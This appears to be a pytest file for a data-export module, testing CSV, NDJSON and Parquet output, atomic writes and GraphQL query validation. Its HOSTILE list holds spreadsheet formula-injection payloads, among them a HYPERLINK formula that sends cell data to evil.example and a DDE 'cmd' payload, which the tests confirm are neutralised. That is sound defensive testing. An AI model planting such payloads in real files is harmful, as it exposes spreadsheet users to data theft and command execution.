"""What strangers wrote is inert in a spreadsheet, and a file of rows is whole or not there."""

import csv
import io
import json
import os
import resource
import subprocess
import sys
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from graphql import parse, validate

from api.exporting import NotExportable, Walk
from api.exports import whole
from api.row_files import as_csv, as_ndjson, as_parquet, cell
from api.rows import Column, first_list
from api.schema import schema

ROOT = Path(__file__).parents[2]
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u00a0=1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ttext",
)
HARMLESS = ("Ada Quill", "O'Corran", "a=b", "1-2", "x@y", "", 'a "quoted", cell', "two\nlines")


def table(rows: list[dict[str, Any]], *names: str) -> list[list[str]]:
    """The cells that a reader of RFC 4180 gets of an exported file."""
    out = io.BytesIO()
    as_csv(out, [Column(name, "String") for name in names], [rows])
    return list(csv.reader(io.StringIO(out.getvalue().decode(), newline=""), strict=True))


def test_no_text_begins_a_formula() -> None:
    cells = [row[0] for row in table([{"name": text} for text in HOSTILE], "name")[1:]]
    assert cells == [f"'{text}".replace("\0", "") for text in HOSTILE]
    kept = [row[0] for row in table([{"name": text, "x": 1} for text in HARMLESS], "name", "x")[1:]]
    assert kept == list(HARMLESS)


def test_numbers_stay_numbers_and_lines_end_as_the_standard_says() -> None:
    out = io.BytesIO()
    columns = [Column(name, "String") for name in "abcdef"]
    row = {"a": -5, "b": -0.25, "c": None, "d": True, "e": ["=x", 1], "f": 'say "no", please'}
    as_csv(out, columns, [[row], []])
    assert out.getvalue() == (
        b'a,b,c,d,e,f\r\n-5,-0.25,,true,"[""=x"",1]","say ""no"", please"\r\n'
    )
    assert cell("-5") == "'-5"


def test_what_cannot_be_written_in_utf_8_is_replaced() -> None:
    assert table([{"a": "x\ud800y"}], "a") == [["a"], ["x?y"]]


def test_json_lines_and_parquet_keep_values_as_they_are(tmp_path: Path) -> None:
    kinds = ("String", "Int", "Float", "Boolean", "Date", "DateTime", "list")
    columns = [Column(kind.lower(), kind) for kind in kinds]
    values = ["=1", 2**40, -0.5, False, "2024-02-29", "2026-03-01T12:30:00+00:00", [{"a": "=1"}]]
    rows: list[dict[str, Any]] = [
        dict(zip((c.name for c in columns), values, strict=True)),
        {c.name: None for c in columns},
    ]
    pages = [rows[:1], rows[1:]]
    assert whole(tmp_path / "rows.ndjson", lambda out: as_ndjson(out, columns, pages)) == 2
    assert [json.loads(line) for line in (tmp_path / "rows.ndjson").open()] == rows
    assert whole(tmp_path / "rows.parquet", lambda out: as_parquet(out, columns, pages)) == 2
    stored = pq.read_table(tmp_path / "rows.parquet")
    assert [str(field.type) for field in stored.schema] == [
        *("string", "int64", "double", "bool", "date32[day]", "timestamp[us, tz=UTC]", "string")
    ]
    first, second = stored.to_pylist()
    assert (first["string"], first["int"], first["list"]) == ("=1", 2**40, '[{"a":"=1"}]')
    assert first["date"].isoformat() == "2024-02-29"
    assert set(second.values()) == {None}


def test_a_file_is_whole_or_stays_as_it_was(tmp_path: Path) -> None:
    place = tmp_path / "rows.csv"
    place.write_text("before")

    def batches() -> Any:
        yield [{"a": "x"}] * 1000
        raise RuntimeError("the server is gone")

    with pytest.raises(RuntimeError):
        whole(place, lambda out: as_csv(out, [Column("a", "String")], batches()))
    assert place.read_text() == "before"
    assert [*tmp_path.iterdir()] == [place]


def test_a_full_disk_leaves_the_file_as_it_was(tmp_path: Path) -> None:
    """A limit on the size of files stands for a disk without room."""
    place = tmp_path / "rows.csv"
    place.write_text("before")
    program = (
        "import sys; from pathlib import Path; from api.rows import Column\n"
        "from api.exports import whole\n"
        "from api.row_files import as_csv\n"
        "rows = ([{'a': 'x' * 1000}] * 100 for _ in range(100))\n"
        "whole(Path(sys.argv[1]), lambda out: as_csv(out, [Column('a', 'String')], rows))"
    )
    done = subprocess.run(
        [sys.executable, "-c", program, str(place)],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000)),
    )
    assert "File too large" in done.stderr
    assert place.read_text() == "before"
    assert [*tmp_path.iterdir()] == [place]


def walk(document: str, **rest: Any) -> Walk:
    return Walk(schema._schema, document, {}, **rest)


def test_columns_are_known_before_the_first_row() -> None:
    columns = walk(
        """query { influencers(first: 3) { totalCount edges { cursor node { ...who
          papers(first: 2) { totalCount nodes { title } } } } } }
        fragment who on Person { __typename name: personId orcid otherNames influence
          enumeratedOn knownFrom ... on Node { id } }"""
    ).columns
    assert [(column.name, column.kind) for column in columns] == [
        ("cursor", "String"),
        ("node.__typename", "String"),
        ("node.name", "String"),
        ("node.orcid", "String"),
        ("node.otherNames", "list"),
        ("node.influence", "Float"),
        ("node.enumeratedOn", "Date"),
        ("node.knownFrom", "DateTime"),
        ("node.id", "ID"),
        ("node.papers.totalCount", "Int"),
        ("node.papers.nodes", "list"),
    ]


REFUSED: tuple[tuple[str, str], ...] = (
    ("{ sources { name } people { nodes { name } } }", "`sources`, `people`"),
    ("{ people { nodes { name } groups(by: [STATE]) { count } } }", "`people`, `people.groups`"),
    ('{ person(id: "P1") { name } }', "has none"),
    ("{ people { nodes { name } } influencers { nodes { name } } }", "`people`, `influencers`"),
    ("{ a: people { nodes { name } } b: people { nodes { name } } }", "`a`, `b`"),
    ("{ people { totalCount } }", "has none"),
    ("{ people { nodes { name } edges { cursor } } }", "either `nodes` or `edges`"),
    ("{ people { nodes { nam } } }", "Cannot query field 'nam'"),
    ("{ people { nodes { name }", "cannot be read"),
    ("", "cannot be read"),
    ("query a { people { nodes { name } } } query b { people { nodes { name } } }", "2 operations"),
    ("fragment f on Person { name }", "is never used"),
    ("{ people { nodes { ...f } } } fragment f on Person { ...f }", "itself"),
    ("query ($exportFirst: Int!) { people(first: $exportFirst) { nodes { name } } }", "rename"),
    ("{ people { nodes " + "{ ties { nodes " * 900 + "{ name }" + "} }" * 900 + " } }", "read"),
    ("{ a" * 3000, "cannot be read"),
)


def test_a_list_without_pages_is_one_page_and_keys_of_groups_are_columns() -> None:
    document = """query ($by: [PaymentGroupKey!]!, $first: Int) {
      payments(first: $first) { groups(by: $by) { all: keys { value } count nodes { id } } } }"""
    groups = Walk(schema._schema, document, {"by": ["COMPANY", "NATURE"], "first": 0})
    names = ["all.COMPANY.value", "all.NATURE.value", "count", "nodes"]
    assert [column.name for column in groups.columns] == names
    assert (groups.question, groups.is_over) == (document, False)
    row = {"all": [{"value": "Firm"}, {"value": None}], "count": 2, "nodes": []}
    assert groups.take({"payments": {"groups": [row]}}) == [
        dict(zip(names, ("Firm", None, 2, []), strict=True))
    ]
    assert groups.is_over
    nodes = walk('{ nodes(ids: ["Paper:1", "Paper:2"]) { id } }')
    assert nodes.take({"nodes": [None, {"id": "Paper:2"}]}) == [{}, {"id": "Paper:2"}]
    assert walk("{ payments { groups(by: COMPANY) { keys { id } } } }").columns == [
        Column("keys.COMPANY.id", "ID")
    ]


def test_a_variable_that_only_says_how_many_is_left_out_of_the_pages() -> None:
    document = """query ($most: Int, $state: String!) {
      people(first: $most, filter: {state: {eq: $state}}) { nodes { name } } }"""
    asked = Walk(schema._schema, document, {"most": 7, "state": "IL"})
    assert asked.first == 7 and walk("{ people { nodes { name } } }").first is None
    assert "$most" not in asked.question and asked.question.count("$state") == 2
    assert validate(schema._schema, parse(asked.question)) == []


def test_what_is_not_one_list_is_refused_with_words_that_help() -> None:
    for document, words in REFUSED:
        with pytest.raises(NotExportable) as refusal:
            walk(document)
        assert words in str(refusal.value), document[:80]
    for page in (0, -1, 101):
        with pytest.raises(NotExportable, match="give 1 to 100"):
            walk("{ people { nodes { name } } }", page=page)


def test_a_server_that_gives_the_same_page_again_ends_the_walk() -> None:
    one = walk("{ people { nodes { name } } }")
    page = {"nodes": [{"name": "Ada"}], "exportPage": {"hasNextPage": True, "endCursor": "x"}}
    assert one.take({"people": page}) == [{"name": "Ada"}]
    assert not one.is_over
    one.take({"people": page})
    assert one.is_over


@pytest.mark.parametrize(
    ("data", "rows"),
    [
        ({"people": {"totalCount": 2, "nodes": [{"a": {"b": 1}}, {"a": None}]}},
         [{"a.b": 1}, {"a": None}]),
        ({"person": {"name": "Ada", "ties": {"nodes": []}}},
         [{"name": "Ada", "ties.nodes": []}]),
        ({"sources": []}, []),
        ({"person": None}, []),
        ({"a": {"b": [1, 2]}, "c": [{"d": 1}]}, [{"d": 1}]),
    ],
)  # fmt: skip
def test_the_first_list_of_an_answer(data: object, rows: list[dict[str, Any]]) -> None:
    assert first_list(data) == rows
